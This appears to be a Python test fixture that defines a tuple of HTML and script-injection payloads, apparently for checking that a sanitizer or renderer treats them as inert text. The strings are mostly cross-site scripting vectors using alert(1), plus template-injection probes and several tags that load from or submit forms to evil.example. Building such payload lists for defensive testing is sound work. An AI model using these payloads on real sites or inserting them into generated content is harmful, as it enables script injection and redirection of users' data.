"""Texts that would run, break out or mislead, were they ever taken for more than text."""

from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<object data=x>",
    "<embed src=x>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<p hx-get=//evil.example hx-trigger=load>", "<p data-hx-on:load=alert(1)>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '", "`${alert(1)}`", "{{7*7}}<b>{% raw %}</b>", "{{ config }}<i>",
    "javascript:alert(1)//<b>", "\u202e<script>alert(1)</script>\u2066",
)  # fmt: skip
